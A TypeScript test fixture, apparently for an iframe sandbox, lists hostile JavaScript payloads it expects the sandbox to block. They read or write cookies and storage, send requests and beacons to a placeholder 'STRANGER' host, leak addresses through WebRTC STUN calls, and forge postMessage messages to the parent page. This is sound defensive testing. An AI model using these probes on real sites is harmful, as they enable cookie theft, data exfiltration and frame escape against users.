/** What hostile code tries, and what it finds of it: `refused` and the error, or `got` and a value. */
export interface Payload {
  name: string;
  /** The body of an asynchronous function; `STRANGER` stands for the address of another host, `EAR` for the port on which it hears datagrams. */
  code: string;
  finds: RegExp;
}

/** Waits for the first of some events of a target, and gives its name. */
const first = (target: string, ...events: string[]) =>
  `await new Promise((resolve) => { const t: any = ${target}; ${events.map((event) => `t['on${event}'] = () => resolve('${event}');`).join(' ')} })`;

/** Asks another host for its own address by a connection between browsers, and waits until that must have been sent. */
const call = (window: string) =>
  `const c = new (${window}).RTCPeerConnection({ iceServers: [{ urls: 'stun:EAR' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((r) => setTimeout(r, 1500)); return c.iceGatheringState;`;

/** The same of a frame that it puts into itself. */
const callWithin = (source: string) =>
  `const f = document.createElement('iframe'); ${source} document.body.append(f); await new Promise((r) => setTimeout(r, 300)); ${call('f.contentWindow as any')}`;

/** Each of them would reach out of the frame if the frame let it. */
export const payloads: Payload[] = [
  { name: 'reads the cookies', code: 'return document.cookie;', finds: /refused SecurityError/ },
  {
    name: 'writes a cookie',
    code: "document.cookie = 'stolen=1'; return 1;",
    finds: /refused SecurityError/,
  },
  { name: 'reads what the site keeps', code: 'return localStorage.length;', finds: /refused SecurityError/ },
  { name: 'opens a database', code: "return indexedDB.open('x');", finds: /refused SecurityError/ },
  { name: 'opens the caches of the worker', code: 'return (await caches.keys()).length;', finds: /refused/ },
  { name: 'reads the page around it', code: 'return parent.document.title;', finds: /refused SecurityError/ },
  {
    name: 'leads the page elsewhere',
    code: `top!.location.href = 'STRANGER/'; return 1;`,
    finds: /refused SecurityError|got 1/,
  },
  {
    name: 'fetches from a stranger',
    code: `return (await fetch('STRANGER/')).status;`,
    finds: /refused TypeError/,
  },
  { name: 'fetches from the site', code: "return (await fetch('/x/')).status;", finds: /refused TypeError/ },
  {
    name: 'sends a beacon',
    code: `navigator.sendBeacon('STRANGER/', 'x'); return 1;`,
    finds: /got 1|refused/,
  },
  {
    name: 'opens a socket',
    code: `return ${first("new WebSocket('ws' + 'STRANGER'.slice(4))", 'error', 'open')};`,
    finds: /got error|refused/,
  },
  {
    name: 'asks for a picture',
    code: `const i = new Image(); i.src = 'STRANGER/p.png'; return ${first('i', 'error', 'load')};`,
    finds: /got error/,
  },
  {
    name: 'asks for rules',
    code: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'STRANGER/s.css'; document.head.append(l); return ${first('l', 'error', 'load')};`,
    finds: /got error/,
  },
  {
    name: 'asks for a script',
    code: `const s = document.createElement('script'); s.src = 'STRANGER/s.js'; document.head.append(s); return ${first('s', 'error', 'load')};`,
    finds: /got error/,
  },
  {
    name: 'imports from a module that it made',
    code: `const u = URL.createObjectURL(new Blob(["import 'STRANGER/m.js'"], { type: 'text/javascript' })); const s = document.createElement('script'); s.type = 'module'; s.src = u; document.head.append(s); return ${first('s', 'error', 'load')};`,
    finds: /got error/,
  },
  { name: 'opens a window', code: `return window.open('STRANGER/');`, finds: /got null/ },
  {
    name: 'sends a form',
    code: `const f = document.createElement('form'); f.action = 'STRANGER/'; f.target = '_top'; document.body.append(f); f.submit(); return 1;`,
    finds: /got 1/,
  },
  {
    name: 'opens dialogs',
    code: "alert('a'); print(); return [confirm('b'), prompt('c')].join();",
    finds: /got false,/,
  },
  { name: 'makes code of text', code: "return new Function('return 1')();", finds: /refused EvalError/ },
  {
    name: 'starts a worker',
    code: "const w = new Worker(URL.createObjectURL(new Blob(['']))); return await new Promise((r) => { w.onerror = () => r('error'); });",
    finds: /got error|refused/,
  },
  {
    name: 'registers a service worker',
    code: "return String(await navigator.serviceWorker.register('/x/sw.js'));",
    finds: /refused/,
  },
  {
    name: 'puts another page into itself',
    code: `const f = document.createElement('iframe'); f.src = 'STRANGER/'; document.body.append(f); return ${first('f', 'load', 'error')};`,
    finds: /got/,
  },
  { name: 'calls another browser', code: call('window as any'), finds: /refused TypeError/ },
  {
    name: 'calls another browser by its old name',
    code: call('{ RTCPeerConnection: (window as any).webkitRTCPeerConnection }'),
    finds: /refused TypeError/,
  },
  {
    name: 'calls another browser out of an empty frame',
    code: callWithin(''),
    finds: /refused (?:Security|Type)Error/,
  },
  {
    name: 'calls another browser out of a frame that it wrote',
    code: callWithin(
      "const own = 'new RTCPeerConnection({ iceServers: [{ urls: \\'stun:EAR\\' }] })'; const u = URL.createObjectURL(new Blob([own], { type: 'text/javascript' })); f.srcdoc = '<script src=' + u + '></scr' + 'ipt><script>' + own + '</scr' + 'ipt>';",
    ),
    finds: /refused (?:Security|Type)Error/,
  },
  {
    name: 'forges messages to the page',
    code: "for (const m of ['demo-frame', { kind: 'ready' }, { kind: 'height', height: 9e9 }, { kind: 'failed', run: 1, problem: { reason: 'syntax', message: 'forged' } }]) parent.postMessage(m, '*'); return 1;",
    finds: /got 1/,
  },
];
